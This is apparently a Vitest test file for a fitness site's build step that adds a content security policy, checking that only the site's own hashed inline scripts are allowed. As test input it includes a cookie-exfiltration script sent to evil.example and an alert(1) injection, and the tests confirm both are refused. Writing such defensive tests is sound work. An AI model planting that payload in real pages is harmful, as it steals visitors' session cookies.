import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { addPolicies, inlineScripts, pageFile, policyFor, withPolicy } from '../../src/build/csp';
import { COPY_LINK_SCRIPT, THEME_SCRIPT } from '../../src/lib/inline-scripts';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const page = (head: string, body = '') => `<!doctype html><html><head>${head}</head><body>${body}</body></html>`;
const scriptSrc = (policy: string) => policy.split('; ').find((d) => d.startsWith('script-src'))!;

describe('the content security policy', () => {
  it('allows the site’s own inline scripts on the page by their hashes, never by unsafe-inline', () => {
    const policy = policyFor(page(`<script>${THEME_SCRIPT}</script>`, `<script>${COPY_LINK_SCRIPT}</script>`), 'guides/why-lift/index.html');
    expect(scriptSrc(policy)).toBe(`script-src 'self' 'wasm-unsafe-eval' ${sha(THEME_SCRIPT)} ${sha(COPY_LINK_SCRIPT)}`);
  });

  it('allows only the inline scripts a page has', () => {
    expect(scriptSrc(policyFor(page(`<script>${THEME_SCRIPT}</script>`), 'index.html'))).toBe(`script-src 'self' 'wasm-unsafe-eval' ${sha(THEME_SCRIPT)}`);
  });

  it('refuses an inline script the site does not write, naming the page and the script', () => {
    const html = page(`<script>${THEME_SCRIPT}</script>`, '<p>Squat</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>');
    expect(() => policyFor(html, 'exercises/goblet-squat/index.html')).toThrow(
      'exercises/goblet-squat/index.html: an inline script the site does not write: <script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    );
    expect(() => policyFor(page('<script type="module">a()</script>'), 'x.html')).toThrow('x.html: an inline script');
  });

  it('leaves out external scripts and data blocks, which need no hash', () => {
    const html = page('<script src="/x.js"></script><script type="application/ld+json">{"a":1}</script><script type="application/json">[]</script>');
    expect(inlineScripts(html)).toEqual([]);
  });

  it('names no origin but the site itself', () => {
    const policy = policyFor(page(`<script>${THEME_SCRIPT}</script>`), 'index.html');
    expect(policy).not.toMatch(/https?:|\*/);
    expect(policy).toContain("default-src 'self'");
    expect(policy).toContain("object-src 'none'");
  });

  it('goes first in <head> and replaces an earlier policy instead of adding a second', () => {
    const once = withPolicy(page(`<title>t</title><script>${THEME_SCRIPT}</script>`), 'index.html');
    expect(once).toMatch(/^<!doctype html><html><head><meta http-equiv="content-security-policy"/);
    const twice = withPolicy(once, 'index.html');
    expect(twice.match(/content-security-policy/g)).toHaveLength(1);
    expect(twice).toBe(once);
  });
});

describe('the policy step on the built site', () => {
  const root = mkdtempSync(join(tmpdir(), 'strongstride-csp-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  /** A built site of `count` pages, the first `rendered` with their policy as Astro writes them; `extra` goes in the last page's body. */
  function site(name: string, count: number, rendered: number, extra = '') {
    const dist = join(root, name);
    const files = Array.from({ length: count }, (_, i) => join(dist, 'exercises', `e${i}`, 'index.html'));
    files.forEach((file, i) => {
      mkdirSync(join(file, '..'), { recursive: true });
      const html = page(`<script>${THEME_SCRIPT}</script>`, `<h1>Exercise ${i}</h1>${i === count - 1 ? extra : ''}`);
      writeFileSync(file, i < rendered ? withPolicy(html, `exercises/e${i}/index.html`) : html);
    });
    return { dist, files };
  }

  it('gives a policy to every page that has none, keeps the rendered ones as they are, and leaves nothing else behind', () => {
    const { dist, files } = site('good', 40, 30);
    const rendered = readFileSync(files[0]!, 'utf8');
    expect(addPolicies(dist)).toBe('40 pages with a policy: 30 as rendered, 10 added');
    for (const file of files) expect(readFileSync(file, 'utf8')).toMatch(/^<!doctype html><html><head><meta http-equiv="content-security-policy"[^>]*><script>/);
    expect(readFileSync(files[0]!, 'utf8')).toBe(rendered);
    expect(readdirSync(join(dist, 'exercises', 'e39'))).toEqual(['index.html']);
  });

  it('changes no page when one has a script the site does not write, and names that page', () => {
    const { dist, files } = site('bad', 40, 0, '<script>alert(1)</script>');
    const before = files.map((file) => readFileSync(file, 'utf8'));
    expect(() => addPolicies(dist)).toThrow('exercises/e39/index.html: an inline script the site does not write: <script>alert(1)</script>');
    expect(files.map((file) => readFileSync(file, 'utf8'))).toEqual(before);
  });

  it('names the file a rendered page is written to, as a page without a policy is named', () => {
    expect(pageFile('/exercises/goblet-squat/')).toBe('exercises/goblet-squat/index.html');
    expect(pageFile('/')).toBe('index.html');
    expect(pageFile('/404/')).toBe('404.html');
    expect(pageFile('/404')).toBe('404.html');
    expect(pageFile('/sitemap')).toBe('sitemap.html');
  });
});
